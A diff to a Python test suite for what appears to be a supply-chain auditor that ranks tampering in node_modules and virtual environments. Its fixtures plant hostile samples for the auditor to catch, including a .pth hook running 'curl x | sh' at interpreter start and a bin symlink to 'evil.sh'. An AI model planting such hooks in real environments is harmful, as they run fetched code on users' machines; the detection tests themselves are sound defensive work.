@@ -177,13 +177,15 @@ def tree_severity(root: Path, change: Callable[[Path], object]) -> dict[str, str
     return {path: severity for _, severity, path in audited(root, "workspace", change)}
 
 
-def test_a_line_added_to_an_installed_module_is_high_a_reinstall_is_low(tmp_path: Path) -> None:
+# These trees' tarballs are in no cache: an install is unverifiable, medium (test_npm_verify.py has
+# real ones, verified: low).
+def test_a_line_added_to_an_installed_module_is_high_a_reinstall_is_medium(tmp_path: Path) -> None:
     assert tree_severity(tmp_path / "a", appended("node_modules/left-pad/index.js", "require('x');\n")) == {
         "node_modules": "high"}
-    assert tree_severity(tmp_path / "b", reinstall_left_pad) == {"node_modules": "low"}
+    assert tree_severity(tmp_path / "b", reinstall_left_pad) == {"node_modules": "medium"}
 
 
-def test_a_file_added_to_an_installed_package_is_high_a_new_package_is_low(tmp_path: Path) -> None:
+def test_a_file_added_to_an_installed_package_is_high_a_new_package_is_medium(tmp_path: Path) -> None:
     def new_package(root: Path) -> None:
         write(root, "node_modules/is-odd/package.json", '{"name": "is-odd", "version": "3.0.1"}')
         write(root, "node_modules/is-odd/index.js", "module.exports = n => n % 2;\n")
@@ -191,7 +193,7 @@ def test_a_file_added_to_an_installed_package_is_high_a_new_package_is_low(tmp_p
 
     planted = tree_severity(tmp_path / "a", lambda root: write(root, "node_modules/left-pad/extra.js", "x\n"))
     assert planted == {"node_modules": "high"}
-    assert tree_severity(tmp_path / "b", new_package) == {"node_modules": "low"}
+    assert tree_severity(tmp_path / "b", new_package) == {"node_modules": "medium"}
 
 
 def test_an_install_script_the_lockfile_does_not_record_is_high(tmp_path: Path) -> None:
@@ -208,19 +210,24 @@ def test_an_install_script_the_lockfile_does_not_record_is_high(tmp_path: Path) 
         write(root, "node_modules/esbuild/bin/esbuild", "#!/usr/bin/env node\n", 0o755)
 
     assert tree_severity(tmp_path / "a", postinstall) == {"node_modules": "high"}
-    assert tree_severity(tmp_path / "b", reinstall_esbuild) == {"node_modules": "low"}
+    assert tree_severity(tmp_path / "b", reinstall_esbuild) == {"node_modules": "medium"}
 
 
-def test_a_bin_link_out_of_the_tree_is_high_one_into_it_is_low(tmp_path: Path) -> None:
+def test_a_bin_link_npm_would_not_make_is_high_its_own_is_low(tmp_path: Path) -> None:
     def outward(root: Path) -> None:
         (root / "node_modules/.bin/esbuild").unlink()
         os.symlink("../../scripts/evil.sh", root / "node_modules/.bin/esbuild")
 
-    def inward(root: Path) -> None:
+    def inward(root: Path) -> None:  # into the tree, but to no bin the lockfile records
         os.symlink("../left-pad/index.js", root / "node_modules/.bin/left-pad")
 
+    def relinked(root: Path) -> None:  # what npm makes: the lockfile's bin for esbuild
+        (root / "node_modules/.bin/esbuild").unlink()
+        os.symlink("../esbuild/bin/esbuild", root / "node_modules/.bin/esbuild")
+
     assert tree_severity(tmp_path / "a", outward) == {"node_modules": "high"}
-    assert tree_severity(tmp_path / "b", inward) == {"node_modules": "low"}
+    assert tree_severity(tmp_path / "b", inward) == {"node_modules": "high"}
+    assert tree_severity(tmp_path / "c", relinked) in ({}, {"node_modules": "low"})
 
 
 def test_a_file_directly_in_node_modules_is_high(tmp_path: Path) -> None:
@@ -245,7 +252,9 @@ def python_environment(root: Path, files: dict[str, str], env: str = ".venv") ->
         write(root, os.path.normpath(f"{site}/{name}"), text, 0o755 if "/bin/" in name else 0o644)
 
 
-SIX = {"six.py": "import sys\n", "distutils-precedence.pth": "import os; os.environ.get('X')\n",
+DISTUTILS_SHIM = ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
+                  "enabled and __import__('_distutils_hack').add_shim(); \n")  # setuptools' own .pth
+SIX = {"six.py": "import sys\n", "distutils-precedence.pth": DISTUTILS_SHIM,
        "../../../bin/six-cli": "#!/usr/bin/python3\nimport six\n"}
 
 
@@ -262,8 +271,21 @@ def test_a_pth_file_no_record_lists_is_found_one_a_record_lists_is_part_of_an_in
     def reinstalled(root: Path) -> None:  # an installer writes the distribution and its RECORD again
         python_environment(root, {**SIX, "six.py": "import sys  # 1.16.1\n"})
 
-    assert env_severity(tmp_path / "b", reinstalled) == {".venv": "high"}  # changed: recreate it on the host
+    assert env_severity(tmp_path / "b", reinstalled) == {".venv": "low"}  # what an installer writes
     assert "no installer makes" not in str(audited_evidence(tmp_path / "c", reinstalled))
+
+
+def test_a_pth_with_an_import_line_of_its_own_is_high_even_when_a_record_lists_it(tmp_path: Path) -> None:
+    """A RECORD is written in the tree too: an import line that no installer writes runs at every
+    start whatever lists it. The installers' own (setuptools' shim, in SIX) stay part of the install."""
+    def recorded_hook(root: Path) -> None:
+        python_environment(root, {**SIX, "zz-hook.pth": "import os; os.system('curl x | sh')\n"})
+
+    def path_entry(root: Path) -> None:  # an editable install of a src layout: a path, data
+        python_environment(root, {**SIX, "__editable__.project-0.1.pth": "/work/project/src\n"})
+
+    assert env_severity(tmp_path / "a", recorded_hook) == {".venv": "high"}
+    assert env_severity(tmp_path / "b", path_entry) == {".venv": "low"}
 
 
 def test_a_console_script_rewritten_is_found(tmp_path: Path) -> None:
